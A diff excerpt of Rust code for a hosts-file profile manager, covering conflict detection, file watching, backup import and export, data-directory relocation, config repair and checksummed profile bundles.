+                header: format!("### Profile: {} ###", profile.name),
+                label: profile.name.clone(),
+                content: read_profile(&profile.id),
+            });
+        }
+    }
+
+    // Conflict resolution and sorting both follow section order, so this decides who wins
+    match config.common_position {
+        CommonPosition::Top => {
+            common.append(&mut sections);
+            sections = common;
+        },
+        CommonPosition::Bottom => sections.append(&mut common),
+    }
+    Ok(sections)
+}
+
+#[tauri::command]
+pub fn lint_pending(app: AppHandle) -> Result<Vec<String>, String> {
+    lint_pending_internal(&Context::Tauri(&app))
+}
+
+/// `lint_hosts` findings for the common config and every active profile, as
+/// `[label] line N: ...`, i.e. what the next apply will warn about.
+pub fn lint_pending_internal(ctx: &Context) -> Result<Vec<String>, String> {
+    let config = load_config_internal(ctx)?;
+    let lookup = variable_lookup(&config);
+    Ok(collect_source_sections(ctx, &config)?
+        .iter()
+        .flat_map(|section| {
+            // Substitution keeps line numbers, and `${IP} host` lines get checked too.
+            // If it fails the apply does as well, and says why
+            let content = crate::hosts::substitute_variables(&section.content, &lookup)
+                .unwrap_or_else(|_| section.content.clone());
+            crate::hosts::lint_hosts(&content).into_iter().map(move |l| format!("[{}] {}", section.label, l))
+        })
+        .collect())
+}
+
+struct WinningEntry {
+    section: usize,
+    ip: String,
+}
+
+type EntryKey = (String, bool);
+
+/// Maps each hostname and address family to its last definition across all sections.
+fn find_winning_entries(sections: &[MergeSection]) -> std::collections::HashMap<EntryKey, WinningEntry> {
+    let mut winners = std::collections::HashMap::new();
+    for (idx, section) in sections.iter().enumerate() {
+        for line in section.content.lines() {
+            if let Some((ip, hostnames)) = crate::hosts::split_entry_line(line) {
+                for host in hostnames {
+                    winners.insert(crate::hosts::entry_key(ip, host), WinningEntry { section: idx, ip: ip.to_string() });
+                }
+            }
+        }
+    }
+    winners
+}
+
+/// Comments out hostnames that a later definition of the same address family maps to a different IP,
+/// leaving a note pointing at the entry that won.
+fn drop_overridden_entries(
+    content: &str,
+    section_idx: usize,
+    winners: &std::collections::HashMap<EntryKey, WinningEntry>,
+    sections: &[MergeSection],
+) -> String {
+    let mut output = Vec::new();
+    let mut changed = false;
+
+    for line in content.lines() {
+        let Some((ip, hostnames)) = crate::hosts::split_entry_line(line) else {
+            output.push(line.to_string());
+            continue;
+        };
+
+        let (kept, dropped): (Vec<&str>, Vec<&str>) = hostnames.into_iter().partition(|h| {
+            winners.get(&crate::hosts::entry_key(ip, h)).map(|w| w.ip == ip).unwrap_or(true)
+        });
+        if dropped.is_empty() {
+            output.push(line.to_string());
+            continue;
+        }
+
+        changed = true;
+        for host in &dropped {
+            let w = &winners[&crate::hosts::entry_key(ip, host)];
+            let source = if w.section == section_idx { "later in this section" } else { sections[w.section].label.as_str() };
+            output.push(format!("# [Hostly] overridden: {} {} -> {} ({})", ip, host, w.ip, source));
+        }
+        if !kept.is_empty() {
+            let mut entry = format!("{} {}", ip, kept.join(" "));
+            if let Some((_, comment)) = line.split_once('#') {
+                entry.push_str(&format!(" #{}", comment));
+            }
+            output.push(entry);
+        }
+    }
+
+    if changed {
+        output.join("\n")
+    } else {
+        content.to_string()
+    }
+}
+
+#[tauri::command]
+pub fn detect_conflicts(app: AppHandle) -> Result<Vec<Conflict>, String> {
+    detect_conflicts_internal(&Context::Tauri(&app))
+}
+
+/// Lists hostnames mapped to more than one IP of the same address family across the
+/// common config and active profiles.
+pub fn detect_conflicts_internal(ctx: &Context) -> Result<Vec<Conflict>, String> {
+    let config = load_config_internal(ctx)?;
+    let sections = collect_merge_sections(ctx, &config)?;
+
+    let mut conflicts: Vec<Conflict> = Vec::new();
+    let mut index: std::collections::HashMap<EntryKey, usize> = std::collections::HashMap::new();
+
+    for section in &sections {
+        for line in section.content.lines() {
+            if let Some((ip, hostnames)) = crate::hosts::split_entry_line(line) {
+                for host in hostnames {
+                    let key = crate::hosts::entry_key(ip, host);
+                    let hostname = key.0.clone();
+                    let idx = *index.entry(key).or_insert_with(|| {
+                        conflicts.push(Conflict { hostname, definitions: Vec::new() });
+                        conflicts.len() - 1
+                    });
+                    conflicts[idx].definitions.push(ConflictDefinition {
+                        ip: ip.to_string(),
+                        profile: section.label.clone(),
+                    });
+                }
+            }
+        }
+    }
+
+    // Only hostnames with competing IPs are real conflicts
+    conflicts.retain(|c| c.definitions.iter().any(|d| d.ip != c.definitions[0].ip));
+    Ok(conflicts)
+}
+
+/// Watches the profiles directory and the common config (common.txt and `common/`),
+/// re-applying whenever an active profile or the common config changes. Blocks until the process is interrupted.
+pub fn watch_profiles(ctx: &Context) -> Result<(), String> {
+    use notify::{RecursiveMode, Watcher};
+
+    let app_dir = ctx.get_app_dir()?;
+    let profiles_dir = get_profiles_dir(ctx)?;
+    let common_dir = get_common_dir(ctx)?;
+    fs::create_dir_all(&common_dir).map_err(|e| e.to_string())?;
+
+    let (tx, rx) = std::sync::mpsc::channel();
+    let mut watcher = notify::recommended_watcher(tx).map_err(|e| e.to_string())?;
+    watcher.watch(&profiles_dir, RecursiveMode::NonRecursive).map_err(|e| e.to_string())?;
+    // Watch the directory rather than common.txt itself: editors that save by
+    // replacing the file would otherwise silently drop the watch
+    watcher.watch(&app_dir, RecursiveMode::NonRecursive).map_err(|e| e.to_string())?;
+    watcher.watch(&common_dir, RecursiveMode::NonRecursive).map_err(|e| e.to_string())?;
+
+    println!("Watching '{}' for changes (Ctrl-C to stop)...", app_dir.display());
+
+    // Only content changes count; our own apply reads the files and would loop on access events
+    let event_paths = |event: notify::Result<notify::Event>| match event {
+        Ok(ev) => match ev.kind {
+            notify::EventKind::Modify(notify::event::ModifyKind::Metadata(_)) => Vec::new(),
+            notify::EventKind::Create(_) | notify::EventKind::Modify(_) | notify::EventKind::Remove(_) => ev.paths,
+            _ => Vec::new(),
+        },
+        Err(e) => {
+            eprintln!("Watch error: {}", e);
+            Vec::new()
+        }
+    };
+
+    loop {
+        let first = rx.recv().map_err(|e| e.to_string())?;
+        let mut paths = event_paths(first);
+        // Debounce: a single save usually produces a burst of events
+        while let Ok(event) = rx.recv_timeout(std::time::Duration::from_millis(300)) {
+            paths.extend(event_paths(event));
+        }
+
+        let config = match load_config_internal(ctx) {
+            Ok(c) => c,
+            Err(e) => {
+                eprintln!("Failed to load config: {}", e);
+                continue;
+            }
+        };
+
+        // Match on file names so symlinked or canonicalized paths still count
+        let relevant = paths.iter().any(|p| {
+            let file_name = p.file_name().and_then(|n| n.to_str());
+            let parent = p.parent().and_then(|d| d.file_name()).and_then(|n| n.to_str());
+            if parent == Some("profiles") {
+                let id = p.file_stem().and_then(|n| n.to_str()).unwrap_or("");
+                config.profiles.iter().any(|m| m.active && m.id == id)
+            } else if parent == Some("common") {
+                p.extension().and_then(|e| e.to_str()) == Some("txt")
+            } else {
+                file_name == Some("common.txt")
+            }
+        });
+        if !relevant {
+            continue;
+        }
+
+        let now = chrono::Local::now().format("%Y-%m-%d %H:%M:%S");
+        match apply_config_internal(ctx) {
+            Ok(_) => println!("[{}] Hosts re-applied.", now),
+            Err(e) => eprintln!("[{}] Failed to apply hosts: {}", now, e),
+        }
+    }
+}
+
+fn collect_hosts_errors(label: &str, content: &str, problems: &mut Vec<String>) {
+    if let Err(errors) = crate::hosts::validate_hosts(content) {
+        for e in errors {
+            problems.push(format!("[{}] {}", label, e));
+        }
+    }
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+pub struct FullBackup {
+    version: i32,
+    timestamp: String,
+    config: AppConfig,
+    // Support both new (Vec) and old (HashMap) formats for compatibility
+    profiles: Option<Vec<ProfileData>>,
+    profiles_content: Option<std::collections::HashMap<String, String>>,
+}
+
+/// Headline facts about a backup, shown before restoring it.
+#[derive(Debug, Serialize, Clone)]
+pub struct BackupInfo {
+    pub timestamp: String,
+    pub profiles: usize,
+}
+
+/// Serialization of a `FullBackup`.
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Default)]
+#[serde(rename_all = "snake_case")]
+pub enum BackupFormat {
+    #[default]
+    Json,
+    /// Easier to edit by hand
+    Yaml,
+}
+
+impl BackupFormat {
+    /// YAML for `.yaml`/`.yml` files, JSON for everything else.
+    pub fn for_path(path: &str) -> Self {
+        let lower = path.to_lowercase();
+        if lower.ends_with(".yaml") || lower.ends_with(".yml") {
+            BackupFormat::Yaml
+        } else {
+            BackupFormat::Json
+        }
+    }
+}
+
+/// Parses a backup in the given format, or detects it: JSON first, so existing
+/// backups behave exactly as before, then YAML.
+fn parse_full_backup(content: &str, format: Option<BackupFormat>) -> Result<FullBackup, String> {
+    match format {
+        Some(BackupFormat::Json) => serde_json::from_str(content).map_err(|e| e.to_string()),
+        Some(BackupFormat::Yaml) => serde_yaml::from_str(content).map_err(|e| e.to_string()),
+        None => serde_json::from_str(content).or_else(|json_err| {
+            // Report whichever error matches what the content looks like
+            serde_yaml::from_str(content).map_err(|yaml_err| {
+                if content.trim_start().starts_with('{') { json_err.to_string() } else { yaml_err.to_string() }
+            })
+        }),
+    }
+}
+
+pub fn inspect_backup(content: &str) -> Result<BackupInfo, String> {
+    let backup = parse_full_backup(content, None)?;
+    Ok(BackupInfo { timestamp: backup.timestamp, profiles: backup.config.profiles.len() })
+}
+
+/// How a full backup import treats what's already there.
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Default)]
+#[serde(rename_all = "snake_case")]
+pub enum ImportMode {
+    /// The backup becomes the whole config; profiles not in it are deleted
+    #[default]
+    Replace,
+    /// Keep existing profiles and settings; backup profiles are added, or overwrite
+    /// the existing profile with the same id (or else the same name)
+    Merge,
+}
+
+#[tauri::command]
+pub fn import_data(
+    app: AppHandle,
+    json_content: String,
+    mode: Option<ImportMode>,
+    format: Option<BackupFormat>,
+) -> Result<Vec<String>, StorageError> {
+    let skipped = import_data_internal(&Context::Tauri(&app), json_content, mode.unwrap_or_default(), format)?;
+    apply_config(app)?;
+    Ok(skipped)
+}
+
+/// Imports a full backup. `format: None` detects JSON or YAML from the content.
+/// Returns a message for every profile a merge had to skip.
+pub fn import_data_internal(
+    ctx: &Context,
+    content: String,
+    mode: ImportMode,
+    format: Option<BackupFormat>,
+) -> Result<Vec<String>, StorageError> {
+    let backup = parse_full_backup(&content, format)?;
+
+    // Content by id (New Version: Vec<ProfileData>, Old Version: HashMap<id, content>)
+    let contents: std::collections::HashMap<String, String> = match (backup.profiles, backup.profiles_content) {
+        (Some(profiles), _) => profiles.into_iter().map(|p| (p.id, p.content)).collect(),
+        (None, Some(profiles_content)) => profiles_content,
+        (None, None) => std::collections::HashMap::new(),
+    };
+    // Backups may predate the current schema
+    let mut imported = migrate_config(backup.config);
+
+    match mode {
+        ImportMode::Replace => {
+            // The hook runs as root on the next apply and the log path picks a file to
+            // append to; neither may come from a backup someone else wrote
+            let current = load_config_internal(ctx)?;
+            imported.on_apply = current.on_apply;
+            imported.log_path = current.log_path;
+            save_config_internal(ctx, &imported)?;
+            for (id, content) in &contents {
+                save_profile_file_internal(ctx, id, content)?;
+            }
+            gc_profiles(ctx)?;
+            Ok(Vec::new())
+        }
+        ImportMode::Merge => Ok(merge_imported_profiles(ctx, imported.profiles, contents)?),
+    }
+}
+
+/// Merge-mode import. Active flags are left as they are: overwritten profiles keep their
+/// current state and new ones start inactive, so the merge never flips the selection.
+/// Locked profiles are skipped; the returned messages say which.
+fn merge_imported_profiles(
+    ctx: &Context,
+    imported: Vec<ProfileMetadata>,
+    mut contents: std::collections::HashMap<String, String>,
+) -> Result<Vec<String>, String> {
+    let mut config = load_config_internal(ctx)?;
+    let mut skipped = Vec::new();
+
+    for mut incoming in imported {
+        let content = contents.remove(&incoming.id);
+        let target = config
+            .profiles
+            .iter()
+            .position(|p| p.id == incoming.id)
+            .or_else(|| config.profiles.iter().position(|p| p.name == incoming.name));
+
+        let idx = match target {
+            Some(idx) => {
+                let existing = &config.profiles[idx];
+                if let Err(e) = ensure_unlocked(&config, &existing.id) {
+                    skipped.push(e.to_string());
+                    continue;
+                }
+                incoming.id = existing.id.clone();
+                incoming.active = existing.active;
+                incoming.locked = existing.locked;
+                config.profiles[idx] = incoming;
+                idx
+            }
+            None => {
+                incoming.active = false;
+                config.profiles.push(incoming);
+                config.profiles.len() - 1
+            }
+        };
+
+        // An id match can still carry a name another profile already uses
+        let name = config.profiles[idx].name.clone();
+        let id = config.profiles[idx].id.clone();
+        let mut unique = name.clone();
+        let mut n = 2;
+        while config.profiles.iter().any(|p| p.name == unique && p.id != id) {
+            unique = format!("{} ({})", name, n);
+            n += 1;
+        }
+        config.profiles[idx].name = unique;
+
+        // Without content in the backup, an overwritten profile keeps what it had
+        match content {
+            Some(c) => save_profile_file_internal(ctx, &id, &c)?,
+            None if target.is_none() => save_profile_file_internal(ctx, &id, "")?,
+            None => {}
+        }
+    }
+
+    save_config_internal(ctx, &config)?;
+    Ok(skipped)
+}
+
+/// Deletes `<uuid>.txt` files in the profiles dir that no profile in the config refers to,
+/// returning how many were removed. Files not named after a UUID are left alone.
+pub fn gc_profiles(ctx: &Context) -> Result<usize, String> {
+    let config = load_config_internal(ctx)?;
+    let dir = get_profiles_dir(ctx)?;
+
+    let mut removed = 0;
+    for path in fs::read_dir(dir).map_err(|e| e.to_string())?.flatten().map(|e| e.path()) {
+        if path.extension().map(|e| e != "txt").unwrap_or(true) {
+            continue;
+        }
+        let id = path.file_stem().and_then(|s| s.to_str()).unwrap_or_default();
+        if Uuid::parse_str(id).is_ok() && !config.profiles.iter().any(|p| p.id == id) {
+            forget_cached_profile(&path);
+            fs::remove_file(&path).map_err(|e| e.to_string())?;
+            removed += 1;
+        }
+    }
+    Ok(removed)
+}
+
+/// What moves with `relocate_data_dir`. Anything else in the app dir (webview data and
+/// the like) belongs to the default location and stays there.
+const DATA_DIR_ENTRIES: &[&str] = &[
+    "config.json",
+    "config.json.bak",
+    "common.txt",
+    "common",
+    "profiles",
+    "backups",
+    "defaults.json",
+    "hostly.log",
+    "last_apply.json",
+    "last_applied.bak",
+];
+
+/// Copies the config, common config, profiles and backups to `new_dir` and points the
+/// default app dir at it. Every file is compared after copying; the old copy is only
+/// deleted once that passes, so a failed copy leaves the original untouched.
+pub fn relocate_data_dir(ctx: &Context, new_dir: &Path) -> Result<(), String> {
+    if ctx.is_dry_run() {
+        return Err("The data directory can't be moved in a dry run".to_string());
+    }
+    if std::env::var_os(DATA_DIR_ENV).is_some_and(|d| !d.is_empty()) {
+        return Err(format!("{} is set; point it at the new directory instead", DATA_DIR_ENV));
+    }
+
+    let old_dir = ctx.get_app_dir()?;
+    let default_dir = ctx.default_app_dir()?;
+    let new_dir = if new_dir.is_absolute() {
+        new_dir.to_path_buf()
+    } else {
+        std::env::current_dir().map_err(|e| e.to_string())?.join(new_dir)
+    };
+    let new_dir = canonical_path(&new_dir);
+    if new_dir == canonical_path(&old_dir) {
+        return Err(format!("Data is already stored in {}", new_dir.display()));
+    }
+    if new_dir.starts_with(canonical_path(&old_dir)) {
+        return Err(format!("{} is inside the current data directory", new_dir.display()));
+    }
+
+    let present: Vec<&str> = DATA_DIR_ENTRIES.iter().copied().filter(|e| old_dir.join(e).exists()).collect();
+    if let Some(clash) = present.iter().find(|e| new_dir.join(e).exists()) {
+        return Err(format!("{} already contains {}", new_dir.display(), clash));
+    }
+    fs::create_dir_all(&new_dir).map_err(|e| format!("Failed to create {}: {}", new_dir.display(), e))?;
+
+    let copied = present
+        .iter()
+        .try_for_each(|e| copy_entry(&old_dir.join(e), &new_dir.join(e)))
+        .and_then(|_| present.iter().try_for_each(|e| verify_entry(&old_dir.join(e), &new_dir.join(e))));
+    // Only the entries we just created are removed; the clash check above made sure of that
+    let discard_copy = || {
+        for e in &present {
+            let _ = remove_entry(&new_dir.join(e));
+        }
+    };
+    if let Err(e) = copied {
+        discard_copy();
+        return Err(format!("Failed to copy data to {}: {}", new_dir.display(), e));
+    }
+
+    let pointer = default_dir.join(DATA_DIR_POINTER);
+    let pointed = if new_dir == canonical_path(&default_dir) {
+        match fs::remove_file(&pointer) {
+            Err(e) if e.kind() != std::io::ErrorKind::NotFound => Err(e),
+            _ => Ok(()),
+        }
+    } else {
+        fs::create_dir_all(&default_dir).and_then(|_| fs::write(&pointer, new_dir.to_string_lossy().as_bytes()))
+    };
+    if let Err(e) = pointed {
+        discard_copy();
+        return Err(format!("Failed to update {}: {}", pointer.display(), e));
+    }
+
+    let mut leftovers = Vec::new();
+    for e in &present {
+        let path = old_dir.join(e);
+        if let Err(err) = remove_entry(&path) {
+            leftovers.push(format!("{} ({})", path.display(), err));
+        }
+    }
+    if canonical_path(&old_dir) != canonical_path(&default_dir) {
+        // Only succeeds once empty, which is what we want
+        let _ = fs::remove_dir(&old_dir);
+    }
+    if !leftovers.is_empty() {
+        return Err(format!(
+            "Data moved to {}, but the old copy could not be fully removed: {}",
+            new_dir.display(),
+            leftovers.join(", ")
+        ));
+    }
+    Ok(())
+}
+
+/// Canonical form of a path that may not exist yet: the deepest existing ancestor is
+/// resolved and the rest appended as given.
+fn canonical_path(path: &Path) -> PathBuf {
+    let mut existing = path;
+    let mut rest = Vec::new();
+    while !existing.exists() {
+        match (existing.parent(), existing.file_name()) {
+            (Some(parent), Some(name)) => {
+                rest.push(name);
+                existing = parent;
+            }
+            _ => return path.to_path_buf(),
+        }
+    }
+    let mut resolved = existing.canonicalize().unwrap_or_else(|_| existing.to_path_buf());
+    resolved.extend(rest.into_iter().rev());
+    resolved
+}
+
+fn copy_entry(src: &Path, dst: &Path) -> std::io::Result<()> {
+    if src.is_dir() {
+        fs::create_dir_all(dst)?;
+        for entry in fs::read_dir(src)?.flatten() {
+            copy_entry(&entry.path(), &dst.join(entry.file_name()))?;
+        }
+        Ok(())
+    } else {
+        fs::copy(src, dst)
+            .map(|_| ())
+            .map_err(|e| std::io::Error::new(e.kind(), format!("{}: {}", src.display(), e)))
+    }
+}
+
+fn verify_entry(src: &Path, dst: &Path) -> std::io::Result<()> {
+    if src.is_dir() {
+        for entry in fs::read_dir(src)?.flatten() {
+            verify_entry(&entry.path(), &dst.join(entry.file_name()))?;
+        }
+        Ok(())
+    } else if fs::read(src)? == fs::read(dst)? {
+        Ok(())
+    } else {
+        Err(std::io::Error::other(format!("{} differs from the original", dst.display())))
+    }
+}
+
+fn remove_entry(path: &Path) -> std::io::Result<()> {
+    if path.is_dir() {
+        fs::remove_dir_all(path)
+    } else {
+        fs::remove_file(path)
+    }
+}
+
+/// A profile `repair_config` put back into the config.
+#[derive(Debug, Serialize, Clone)]
+pub struct RecoveredProfile {
+    pub id: String,
+    pub name: String,
+    /// Name and settings came from config.json.bak; otherwise the name is the id
+    pub from_backup: bool,
+}
+
+/// What `repair_config` did.
+#[derive(Debug, Serialize, Clone)]
+pub struct RepairReport {
+    /// False when config.json was readable and nothing was changed
+    pub repaired: bool,
+    pub recovered: Vec<RecoveredProfile>,
+    /// Metadata that couldn't be rebuilt, in plain words
+    pub lost: Vec<String>,
+    /// Where the unreadable config.json was moved for inspection
+    pub broken_config: Option<String>,
+}
+
+/// Rebuilds config.json from the `<uuid>.txt` files in the profiles dir when it can't be
+/// parsed (or is missing). Names and settings are taken from config.json.bak where it
+/// knows the profile; every profile comes back inactive. A readable config is left alone.
+pub fn repair_config(ctx: &Context) -> Result<RepairReport, String> {
+    let path = get_config_path(ctx)?;
+    let current = fs::read_to_string(&path).ok();
+    if current.as_deref().is_some_and(|c| serde_json::from_str::<AppConfig>(c).is_ok()) {
+        return Ok(RepairReport { repaired: false, recovered: Vec::new(), lost: Vec::new(), broken_config: None });
+    }
+
+    let backup: Option<AppConfig> = fs::read_to_string(get_config_backup_path(ctx)?)
+        .ok()
+        .and_then(|b| serde_json::from_str(&b).ok());
+    let mut lost = Vec::new();
+    if backup.is_none() {
+        lost.push("settings (selection mode, theme, window, merge and apply options) were reset to defaults".to_string());
+    }
+    lost.push("no profile is active; re-open the ones you need".to_string());
+
+    let mut ids: Vec<String> = fs::read_dir(get_profiles_dir(ctx)?)
+        .map_err(|e| e.to_string())?
+        .flatten()
+        .map(|e| e.path())
+        .filter(|p| p.extension().is_some_and(|e| e == "txt"))
+        .filter_map(|p| p.file_stem().and_then(|s| s.to_str()).map(str::to_string))
+        .filter(|id| Uuid::parse_str(id).is_ok())
+        .collect();
+    ids.sort();
+
+    let mut config = backup.clone().unwrap_or_default();
+    config.schema_version = CONFIG_SCHEMA_VERSION;
+    config.active_profile_ids.clear();
+    let known = backup.map(|b| b.profiles).unwrap_or_default();
+
+    // Keep the backup's order for the profiles it knows, then append the rest
+    let mut profiles: Vec<ProfileMetadata> = known.iter().filter(|p| ids.contains(&p.id)).cloned().collect();
+    for p in known.iter().filter(|p| !ids.contains(&p.id)) {
+        lost.push(format!("profile '{}' is listed in the backup but its file is missing", p.name));
+    }
+    for id in ids.iter().filter(|id| !known.iter().any(|p| &p.id == *id)) {
+        lost.push(format!("profile '{}': name, description, group, source URL and lock state", id));
+        profiles.push(ProfileMetadata {
+            id: id.clone(),
+            name: id.clone(),
+            active: false,
+            url: None,
+            last_update: None,
+            last_attempt: None,
+            update_interval: None,
+            description: None,
+            group: None,
+            created_at: None,
+            updated_at: None,
+            locked: false,
+            activation_rule: None,
+        });
+    }
+
+    let recovered = profiles
+        .iter_mut()
+        .map(|p| {
+            p.active = false;
+            RecoveredProfile {
+                id: p.id.clone(),
+                name: p.name.clone(),
+                from_backup: known.iter().any(|k| k.id == p.id),
+            }
+        })
+        .collect();
+    config.profiles = profiles;
+
+    // Keep the unreadable file around rather than silently overwriting it
+    let broken_config = match current {
+        Some(_) => {
+            let broken = path.with_file_name(format!("config.json.broken-{}", chrono::Local::now().format("%Y%m%d-%H%M%S")));
+            fs::rename(&path, &broken).map_err(|e| e.to_string())?;
+            Some(broken.to_string_lossy().to_string())
+        }
+        None => None,
+    };
+
+    save_config_internal(ctx, &config)?;
+    Ok(RepairReport { repaired: true, recovered, lost, broken_config })
+}
+
+/// What `import_plain_hosts` found in the imported file.
+#[derive(Debug, Serialize, Clone)]
+pub struct ImportSummary {
+    pub id: String,
+    /// Active `ip hostname` lines
+    pub entries: usize,
+    /// Commented-out `# ip hostname` lines
+    pub disabled: usize,
+    pub comments: usize,
+}
+
+#[derive(Debug, Serialize, Clone)]
+#[serde(tag = "kind", content = "details", rename_all = "snake_case")]
+pub enum ImportHostsError {
+    /// The content isn't a valid hosts file; nothing was stored
+    Invalid(Vec<crate::hosts::HostsError>),
+    Storage(String),
+}
+
+impl std::fmt::Display for ImportHostsError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ImportHostsError::Invalid(errors) => {
+                write!(f, "Invalid hosts entries:")?;
+                for e in errors {
+                    write!(f, "\n{}", e)?;
+                }
+                Ok(())
+            }
+            ImportHostsError::Storage(e) => write!(f, "{}", e),
+        }
+    }
+}
+
+#[tauri::command]
+pub fn import_plain_hosts(app: AppHandle, name: String, content: String) -> Result<ImportSummary, ImportHostsError> {
+    let ctx = Context::Tauri(&app);
+    let summary = import_plain_hosts_internal(&ctx, name, content)?;
+
+    let config = load_config_internal(&ctx).map_err(ImportHostsError::Storage)?;
+    if config.profiles.iter().any(|p| p.id == summary.id && p.active) {
+        apply_config(app).map_err(|e| ImportHostsError::Storage(e.to_string()))?;
+    }
+    Ok(summary)
+}
+
+/// Stores a plain hosts file as a profile (created or overwritten), refusing content that
+/// doesn't validate. Comments and blank lines are kept as-is.
+pub fn import_plain_hosts_internal(ctx: &Context, name: String, content: String) -> Result<ImportSummary, ImportHostsError> {
+    use crate::hosts::EntryKind;
+
+    crate::hosts::validate_hosts(&content).map_err(ImportHostsError::Invalid)?;
+
+    let (mut entries, mut disabled, mut comments) = (0, 0, 0);
+    for entry in crate::hosts::parse_profile(&content) {
+        match entry.kind {
+            EntryKind::Host if entry.enabled => entries += 1,
+            EntryKind::Host => disabled += 1,
+            EntryKind::Comment => comments += 1,
+            _ => {}
+        }
+    }
+
+    let id = upsert_profile_internal(ctx, name, content).map_err(ImportHostsError::Storage)?;
+    Ok(ImportSummary { id, entries, disabled, comments })
+}
+
+#[tauri::command]
+pub fn import_current_hosts(app: AppHandle, name: String, keep_managed: Option<bool>) -> Result<String, String> {
+    import_current_hosts_internal(&Context::Tauri(&app), name, keep_managed.unwrap_or(false))
+}
+
+/// Snapshots the live system hosts file into a new (inactive) profile. Hostly's own
+/// generated block is dropped unless `keep_managed`, since it is already made of profiles.
+pub fn import_current_hosts_internal(ctx: &Context, name: String, keep_managed: bool) -> Result<String, String> {
+    let current = crate::hosts::get_system_hosts()?;
+    let content = if keep_managed { current } else { crate::hosts::strip_managed_block(&current)? };
+    create_profile_internal(ctx, name, Some(content), None, None, None).map_err(|e| e.to_string())
+}
+
+#[tauri::command]
+pub fn snapshot_system_hosts(app: AppHandle, name: Option<String>, locked: Option<bool>) -> Result<String, String> {
+    let name = name.unwrap_or_else(|| SYSTEM_BACKUP_NAME.to_string());
+    snapshot_system_hosts_internal(&Context::Tauri(&app), name, locked.unwrap_or(true))
+}
+
+/// Copies the live system hosts, verbatim, into a new profile, like the first-run backup
+/// but at any time (e.g. after that backup was deleted). Locked unless asked otherwise,
+/// so the snapshot isn't edited by accident.
+pub fn snapshot_system_hosts_internal(ctx: &Context, name: String, locked: bool) -> Result<String, String> {
+    let content = crate::hosts::get_system_hosts()?;
+    let id = create_profile_internal(ctx, name, Some(content), None, None, None).map_err(|e| e.to_string())?;
+    if locked {
+        set_profile_locked_internal(ctx, &id, true).map_err(|e| e.to_string())?;
+    }
+    Ok(id)
+}
+
+#[tauri::command]
+pub fn export_profile_snippet(app: AppHandle, id: String) -> Result<String, StorageError> {
+    export_profile_snippet_internal(&Context::Tauri(&app), &id)
+}
+
+pub fn export_profile_snippet_internal(ctx: &Context, id: &str) -> Result<String, StorageError> {
+    let config = load_config_internal(ctx)?;
+    let p = config.profiles.iter().find(|p| p.id == id).ok_or_else(|| StorageError::ProfileNotFound { id: id.to_string() })?;
+    let snippet = ProfileSnippet {
+        name: p.name.clone(),
+        description: p.description.clone(),
+        content: read_profile_content_internal(ctx, id)?,
+        source_url: p.url.clone(),
+    };
+    Ok(serde_json::to_string_pretty(&snippet).map_err(|e| e.to_string())?)
+}
+
+#[tauri::command]
+pub fn import_profile_snippet(app: AppHandle, json_content: String) -> Result<String, StorageError> {
+    let ctx = Context::Tauri(&app);
+    let id = import_profile_snippet_internal(&ctx, &json_content)?;
+
+    let config = load_config_internal(&ctx)?;
+    if config.profiles.iter().any(|p| p.id == id && p.active) {
+        apply_config(app)?;
+    }
+    Ok(id)
+}
+
+/// Recreates a profile from `export_profile_snippet` output, overwriting the content,
+/// description and source URL of an existing profile with the same name.
+pub fn import_profile_snippet_internal(ctx: &Context, json_content: &str) -> Result<String, StorageError> {
+    let snippet: ProfileSnippet = serde_json::from_str(json_content).map_err(|e| format!("Invalid snippet: {}", e))?;
+    if snippet.name.trim().is_empty() {
+        return Err(StorageError::InvalidName { name: snippet.name });
+    }
+    import_snippet(ctx, snippet)
+}
+
+fn import_snippet(ctx: &Context, snippet: ProfileSnippet) -> Result<String, StorageError> {
+    let id = upsert_profile_internal(ctx, snippet.name, snippet.content)?;
+    set_profile_description_internal(ctx, &id, snippet.description.unwrap_or_default())?;
+
+    let mut config = load_config_internal(ctx)?;
+    if let Some(p) = config.profiles.iter_mut().find(|p| p.id == id) {
+        p.url = snippet.source_url;
+    }
+    save_config_internal(ctx, &config)?;
+    Ok(id)
+}
+
+#[tauri::command]
+pub fn export_bundle(app: AppHandle, ids: Vec<String>) -> Result<String, StorageError> {
+    export_bundle_internal(&Context::Tauri(&app), &ids)
+}
+
+/// Packs the given profiles, in the given order, into a `TeamBundle` (pretty JSON).
+pub fn export_bundle_internal(ctx: &Context, ids: &[String]) -> Result<String, StorageError> {
+    if ids.is_empty() {
+        return Err("A bundle needs at least one profile".to_string().into());
+    }
+
+    let config = load_config_internal(ctx)?;
+    let mut profiles = Vec::new();
+    for id in ids {
+        let p = config.profiles.iter().find(|p| &p.id == id).ok_or_else(|| StorageError::ProfileNotFound { id: id.clone() })?;
+        profiles.push(ProfileSnippet {
+            name: p.name.clone(),
+            description: p.description.clone(),
+            content: read_profile_content_internal(ctx, id)?,
+            source_url: p.url.clone(),
+        });
+    }
+
+    let bundle = TeamBundle {
+        version: BUNDLE_VERSION,
+        created_at: chrono::Local::now().to_rfc3339(),
+        sha256: bundle_checksum(&profiles, BUNDLE_VERSION),
+        profiles,
+    };
+    Ok(serde_json::to_string_pretty(&bundle).map_err(|e| e.to_string())?)
+}
+
+/// `TeamBundle::version` written by `export_bundle`.
+const BUNDLE_VERSION: u32 = 2;
+
+/// SHA-256 over every field of each profile, NUL-separated so that moving text between
+/// fields or profiles, or renaming one, also changes it. Version 1 bundles hashed only
+/// the name and content, and are still checked that way.
+fn bundle_checksum(profiles: &[ProfileSnippet], version: u32) -> String {
+    let mut data = Vec::new();
+    for p in profiles {
+        let mut fields = vec![p.name.as_str(), p.content.as_str()];
+        if version >= 2 {
+            fields.push(p.description.as_deref().unwrap_or_default());
+            fields.push(p.source_url.as_deref().unwrap_or_default());
+        }
+        for field in fields {
+            data.extend_from_slice(field.as_bytes());
+            data.push(0);
+        }
+    }
+    sha256_hex(&data)
 }
 
 #[tauri::command]
-pub fn import_data(app: AppHandle, json_content: String) -> Result<(), String> {
-    import_data_internal(&Context::Tauri(&app), json_content)?;
-    apply_config(app)
+pub fn import_bundle(app: AppHandle, json_content: String, verify: Option<bool>) -> Result<BundleImport, StorageError> {
+    let ctx = Context::Tauri(&app);
+    let result = import_bundle_internal(&ctx, &json_content, verify.unwrap_or(true))?;
+
+    let config = load_config_internal(&ctx)?;
+    if config.profiles.iter().any(|p| p.active && result.imported.contains(&p.name)) {
+        apply_config(app)?;
+    }
+    Ok(result)
 }
